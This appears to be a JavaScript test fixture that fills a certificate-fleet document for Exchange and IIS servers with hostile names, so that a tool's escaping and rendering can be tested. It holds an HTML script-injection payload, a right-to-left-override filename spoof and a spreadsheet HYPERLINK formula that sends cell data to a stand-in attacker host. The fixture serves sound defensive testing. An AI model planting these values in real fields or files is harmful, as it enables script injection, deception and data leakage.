import { certificate } from '../support/events.js';

/** Names as nobody should give them, and somebody will. */
export const HOSTILE = {
  script: '<img src=x onerror="window.touched=1"><script>window.touched=2</script>',
  turned: 'evil\u202egnp.exe\u2066\u200b',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  long: 'W'.repeat(100_000),
};

/** A fleet document whose server holds such names wherever a name may stand. */
export function hostileFleet() {
  const certificates = [
    {
      ...certificate('A', { services: ['SMTP', 'IIS'] }),
      subject: `CN=${HOSTILE.script}`,
      friendlyName: HOSTILE.formula,
    },
    { ...certificate('B', { services: ['SMTP'] }), subject: `CN=${HOSTILE.turned}`, issuer: `CN=${HOSTILE.formula}` },
    { ...certificate('C', { services: ['SMTP'] }), subject: `CN=${HOSTILE.long}`, friendlyName: HOSTILE.long },
  ];
  const [first, second, third] = certificates.map(({ thumbprint }) => thumbprint);
  return {
    format: 'certfleet.fleet/1',
    at: '2026-06-01T00:00:00Z',
    organization: { name: 'hostile', sendConnectors: [], edgeSubscriptions: [] },
    servers: [
      {
        fqdn: 'ex01.contoso.com',
        netbiosName: 'EX01',
        version: '2019',
        build: HOSTILE.formula,
        roles: ['Mailbox'],
        adSite: HOSTILE.turned,
        internalTransportCertificate: third,
        certificates,
        receiveConnectors: [HOSTILE.script, HOSTILE.turned, HOSTILE.formula].map((name) => ({
          name,
          enabled: true,
          authMechanism: ['Tls'],
          fqdn: 'a.contoso.com',
          tlsCertificateName: null,
          suppressXAnonymousTls: false,
        })),
        iisBindings: [first, second].map((thumbprint, index) => ({
          site: index === 0 ? 'Default Web Site' : HOSTILE.script.replaceAll(':', ''),
          protocol: 'https',
          ipAddress: '*',
          port: 443 + index,
          hostName: '',
          thumbprint,
        })),
      },
    ],
  };
}
